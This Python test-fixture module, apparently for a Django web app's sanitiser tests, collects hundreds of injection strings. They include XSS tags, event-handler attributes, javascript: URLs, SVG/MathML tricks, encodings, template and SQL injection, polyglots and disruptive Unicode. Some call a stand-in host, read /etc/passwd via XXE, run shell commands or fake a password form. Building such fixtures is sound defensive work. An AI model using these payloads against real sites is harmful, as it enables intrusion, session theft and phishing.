"""Texts that want to be more than text: written for these tests, one a line, by what each hopes to break out of."""

TAGS = r"""
<script>alert(1)</script>
<ScRiPt>alert(1)</sCrIpT>
<script >alert(1)</script >
<script/x>alert(1)</script>
<script src=//zlo.example/x></script>
<script src="data:text/javascript,alert(1)"></script>
<script type=module>import("//zlo.example/x")</script>
<script defer async>alert(1)</script>
<script>/*</script><script>*/alert(1)</script>
<script>alert(1)
<script>alert(1)</script
<<script>alert(1)//<</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script>alert(1)<!--</script>
<!--><script>alert(1)</script>-->
<noscript><p title="</noscript><script>alert(1)</script>">
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>
<iframe src=data:text/html,%3Cscript%3Ealert(1)%3C/script%3E></iframe>
<frameset onload=alert(1)><frame src=about:blank></frameset>
<object data="javascript:alert(1)"></object>
<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>
<embed src="javascript:alert(1)">
<embed src="data:image/svg+xml,<svg onload=alert(1)>">
<applet code="javascript:alert(1)"></applet>
<base href="//zlo.example/">
<base target=_blank href=javascript:/a/,alert(1)//>
<link rel=stylesheet href=//zlo.example/x.css>
<link rel=import href="data:text/html,<script>alert(1)</script>">
<link rel=preload as=script href=//zlo.example onload=alert(1)>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<meta http-equiv="Content-Security-Policy" content="script-src *">
<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-
<style>*{background:url(//zlo.example/x)}</style>
<style>@import"//zlo.example/x.css";</style>
<style onload=alert(1)></style>
<style><img src="</style><img src=x onerror=alert(1)>">
<title></title><script>alert(1)</script>
<plaintext>wszystko dalej
<xmp><script>alert(1)</script></xmp>
<template><script>alert(1)</script></template>
<template shadowrootmode=open><script>alert(1)</script></template>
<slot onslotchange=alert(1)><b></b></slot>
<portal src="javascript:alert(1)"></portal>
<fencedframe src=javascript:alert(1)></fencedframe>
<bgsound src=javascript:alert(1)>
<layer src=//zlo.example></layer>
<ilayer src=//zlo.example></ilayer>
"""

ATTRIBUTES = r'''
<img src=x onerror=alert(1)>
<img src=x onerror="alert(1)">
<img src=x onerror='alert(1)'>
<img src=x onerror=`alert(1)`>
<img/src=x/onerror=alert(1)>
<img src=x:x onerror=alert(1)//
<IMG SRC=x ONERROR=alert(1)>
<img src=x one<x>rror=alert(1)>
<img """><script>alert(1)</script>">
<img src="x" alt="" onload="" onerror="alert(1)" alt="
<img srcset=x onerror=alert(1)>
<img src=x style="background:url(javascript:alert(1))">
<image src=x onerror=alert(1)>
<picture><source srcset=x onerror=alert(1)><img></picture>
<b onmouseover=alert(1)>najedź</b>
<a onclick=alert(1)>kliknij</a>
<a href="#" onfocus=alert(1) autofocus tabindex=1>x</a>
<p onpointerenter=alert(1)>x</p>
<div onwheel=alert(1)>x</div>
<body onload=alert(1)>
<body onpageshow=alert(1)>
<body/onhashchange=alert(1)><a href=#x>x</a>
<input autofocus onfocus=alert(1)>
<input type=image src=x onerror=alert(1)>
<textarea autofocus onfocus=alert(1)></textarea>
<select autofocus onfocus=alert(1)></select>
<button formaction=javascript:alert(1)>x</button>
<button popovertarget=x>x</button><b popover id=x onbeforetoggle=alert(1)>x</b>
<form action=javascript:alert(1)><input type=submit></form>
<form id=wyslij></form><button form=wyslij formaction="//zlo.example">Wyślij</button>
<isindex type=image src=1 onerror=alert(1)>
<keygen autofocus onfocus=alert(1)>
<details open ontoggle=alert(1)>x</details>
<details><summary onclick=alert(1)>x</summary></details>
<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>
<video src=x onerror=alert(1)></video>
<video><source onerror=alert(1)></video>
<video poster=javascript:alert(1)></video>
<audio src onloadstart=alert(1)></audio>
<track default src=x onerror=alert(1)>
<marquee onstart=alert(1)>x</marquee>
<marquee behavior=alternate onbounce=alert(1)>x</marquee>
<table background="javascript:alert(1)"><tr><td>x</table>
<b style="animation-name:x" onanimationstart=alert(1)>x</b>
<b style="transition:1s" ontransitionend=alert(1)>x</b>
<b style="width:expression(alert(1))">x</b>
<b style="-moz-binding:url(//zlo.example/x.xml#x)">x</b>
<b style="position:fixed;inset:0;background:red">zasłona</b>
<b contenteditable onbeforeinput=alert(1)>x</b>
<b accesskey=x onclick=alert(1)>x</b>
<b id=csrfmiddlewaretoken name=csrfmiddlewaretoken>x</b>
<b data-proof='{"parameters":{}}' data-worker=//zlo.example/x>x</b>
<b class="visually-hidden">ukryte</b>
<b hidden>ukryte</b>
<b inert lang=xx dir=rtl>x</b>
<a href=//zlo.example ping=//zlo.example target=opener rel=opener>x</a>
<area href=javascript:alert(1) shape=default>
<map name=x><area href=javascript:alert(1)></map>
<q cite=javascript:alert(1)>x</q>
<x onclick=alert(1)>element, którego nie ma</x>
<x-y is=z onconnected=alert(1)></x-y>
'''

ADDRESSES = r"""
javascript:alert(1)
JaVaScRiPt:alert(1)
javascript://zlo.example/%0aalert(1)
javascript:/*http://a.example/*/alert(1)
java&#115;cript:alert(1)
java%73cript:alert(1)
vbscript:msgbox(1)
data:text/html,<script>alert(1)</script>
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
blob:https://zlo.example/x
file:///etc/passwd
view-source:javascript:alert(1)
feed:javascript:alert(1)
<a href="javascript:alert(1)">x</a>
<a href="jav&#x09;ascript:alert(1)">x</a>
<a href="&#106;avascript&colon;alert&lpar;1&rpar;">x</a>
<a href=" &#14; javascript:alert(1)">x</a>
<a href='vbscript:msgbox(1)'>x</a>
<a href="data:text/html,<svg/onload=alert(1)>">x</a>
<a href=javascript&colon;alert(1)>x</a>
https://a.example/"onmouseover="alert(1)
https://a.example/'onmouseover='alert(1)
https://a.example/`onmouseover=alert(1)
https://a.example/><script>alert(1)</script>
https://a.example/<img src=x onerror=alert(1)>
https://a.example/&quot;onclick=&quot;alert(1)
https://a.example/%22onclick=%22alert(1)
https://a.example/?x="><svg onload=alert(1)>
https://a.example/#javascript:alert(1)
https://a.example:x@/"style="x
https://javascript:alert(1)@a.example/
https://a.example/{{7*7}}"autofocus/onfocus="alert(1)
http://[::1]"onclick=alert(1)
http://a.example\"onclick=alert(1)
HTTPS://A.EXAMPLE/"ONCLICK="alert(1)
[kliknij](javascript:alert(1))
![x](x "onerror=alert(1)")
<javascript:alert(1)>
[x]: javascript:alert(1)
[url=javascript:alert(1)]x[/url]
"""

SVG_AND_MATHML = r"""
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><script href="data:,alert(1)"/></svg>
<svg><script xlink:href=//zlo.example/x></script></svg>
<svg><a xlink:href="javascript:alert(1)"><text y=9>x</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><set attributeName=href to=javascript:alert(1)></svg>
<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>
<svg><foreignObject><body onload=alert(1)></foreignObject></svg>
<svg><image href=x onerror=alert(1)></svg>
<svg><style>@import"//zlo.example/x"</style></svg>
<svg><title><style><img src="</style><img src=x onerror=alert(1)>"></title></svg>
<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>
<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<math href="javascript:alert(1)">x</math>
<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>
<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>
<math><mi xlink:href="data:x,alert(1)">x</mi></math>
<?xml version="1.0"?><x xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></x>
<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>
<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>
"""

ESCAPES = r"""
&lt;script&gt;alert(1)&lt;/script&gt;
&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;
&#60;script&#62;alert(1)&#60;/script&#62;
&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;
&LT;script&GT;alert(1)&LT;/script&GT;
&#0000060script&#0000062alert(1)
%3Cscript%3Ealert(1)%3C%2Fscript%3E
%253Cscript%253Ealert(1)%253C%252Fscript%253E
\u003cscript\u003ealert(1)\u003c/script\u003e
\x3cscript\x3ealert(1)\x3c/script\x3e
\74script\76alert(1)\74/script\76
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
＜script＞alert(1)＜/script＞
‹script›alert(1)‹/script›
﹤script﹥alert(1)﹤/script﹥
<ſcript>alert(1)</ſcript>
&lt;img src=x onerror=alert(1)&gt;
&quot;&gt;&lt;svg onload=alert(1)&gt;
&nbsp;&shy;&zwj;&#8238;txt.exe
&NotEqualTilde;&bne;&fjlig;
&
&#
&#x
&#xFFFFFFFF;
&#0;
<
<>
</>
</
<!
<!--
-->
]]>
<![CDATA[<script>alert(1)</script>]]>
<?php echo 1 ?>
<%= 7*7 %>
</div></article></main></body></html>
</p></div><h1>Ogłoszenie Komendy</h1>
</textarea><script>alert(1)</script>
</title><script>alert(1)</script>
</script><script>alert(1)</script>
</style><script>alert(1)</script>
"><script>alert(1)</script>
'><script>alert(1)</script>
" autofocus onfocus="alert(1)
' autofocus onfocus='alert(1)
`-alert(1)-`
";alert(1);//
\";alert(1);//
*/alert(1)/*
"""

TEMPLATES = r"""
{{ 7|add:7 }}
{{ request.user.email }}
{{ settings.SECRET_KEY }}
{% load static %}{% debug %}
{% include "admin/base.html" %}
{% verbatim %}{{ x }}{% endverbatim %}
{# komentarz #}
{%endblock%}{%block content%}
{{constructor.constructor('alert(1)')()}}
{{_self.env.registerUndefinedFilterCallback("system")}}
${7*7}
${alert(1)}
#{7*7}
*{7*7}
<%- include('/etc/passwd') %>
@(7*7)
[[${7*7}]]
%(password)s %s %d %n
{0.__class__.__mro__} {email!r}
$(id) `id` ; id | id && id
' OR 1=1; DROP TABLE topics_comment; --
=HYPERLINK("//zlo.example";"x")
<div ng-app>{{$on.constructor('alert(1)')()}}</div>
<div v-html="'<img src=x onerror=alert(1)>'"></div>
<div x-data x-init="alert(1)"></div>
<div hx-get="//zlo.example" hx-trigger=load></div>
"""

POLYGLOTS = r"""
jaVascRipt:/*`/*\`/*'/*"/**/(/* */onClick=alert(1) )//</stYle/</tiTle/</textArea/</scRipt/--!>\x3csvG/onLoad=alert(1)//>
'">><marquee><img src=x onerror=alert(1)></marquee></xmp\></|\><xmp/onmouseover=alert(1)><script>alert(1)</script>
"'><!--</title></style></textarea></script><svg/onload=alert(1)>{{7*7}}${7*7}<%=7*7%>
--></script></style></template></noscript><img src=x onerror=alert(1)><!--<script>/*
`"'><img src='#' onerror=alert(1) alt="{% debug %}">&#60;b&#62;
</p></li></ol></section><form action=//zlo.example><input name=password><button>Zaloguj się ponownie</button></form>
"""

PAYLOADS = [
    line
    for group in (TAGS, ATTRIBUTES, ADDRESSES, SVG_AND_MATHML, ESCAPES, TEMPLATES, POLYGLOTS)
    for line in group.strip("\n").splitlines()
]

# Texts without a tag in them that pull at the page in another way.
TROUBLE = {
    "right to left": "Patrol \u202ejuż był\u202c o \u2066ósmej\u2069 i \u200fo dziewiątej \u061c.",
    "a name turned round": "Otwórz umowa\u202efdp.exe i podpisz.",
    "open direction": "\u202e\u202b\u2067" * 50 + "do końca strony",
    "Arabic and Hebrew": "مرحبا بالجيران ושלום לכולם, dzień dobry 12:30!",
    "zero width": "z\u200bw\u200cy\u2060k\ufeffł\u00ady t\u180eekst\u034f",
    "joiners": "👨\u200d👩\u200d👧\u200d👦" * 40,
    "tags of the plane 14": "flaga \U000e0001\U000e0070\U000e006c\U000e007f koniec",
    "homographs": "Kоmеndа Pоlісjі: pаssа.pl, рауpаl.соm, gооglе.соm, ⅼⅰⅾⅼ.рⅼ",
    "fullwidth and letters in circles": "ＷＹＧＲＡＮＡ ⓝⓐⓖⓡⓞⓓⓐ 𝐭𝐮 𝖙𝖚 𝓽𝓾 🅣🅤",
    "combining marks": "Z" + "\u0310\u0316\u035b\u0489" * 2_500 + "algo",
    "a mark on each letter": "".join(f"{letter}\u0336\u0338\u20e0" for letter in "przekreślone słowa") * 20,
    "towers of Thai": "ก" + "็" * 900 + " ก" + "ํ๊" * 400,
    "enclosing marks": "A" + "\u20dd\u20de\u20e2" * 300,
    "a line without a place to break": "ż" * 2_000,
    "an address of 2,000 signs": "https://a.example/" + "x" * 1_900,
    "no-break spaces": "słowo\u00a0\u202f\u2007" * 150,
    "a wide ligature": "﷽" * 150 + "𒐫" * 150 + "⸻" * 100,
    "lines and nothing else": "\n".join("." * 900),
    "line ends of all kinds": "raz\rdwa\r\ntrzy\u2028cztery\u2029pięć\x0bsześć\x0csiedem\x85osiem",
    "control characters": "a\x01\x02\x1b[31mb\x7fc\x9b2Jd",
    "noncharacters and private use": "a\ufffeb\uffffc\ue000d\U0010ffffe\ufff9f\ufffag",
    "emoji of all sizes": "👩🏽\u200d🚒🏴\u200d☠️🇵🇱1️⃣" * 30,
    "quotes": "„cytat” «cytat» \"cytat\" 'cytat' `cytat`",
}
LONG_LINE = "x" * 65_536
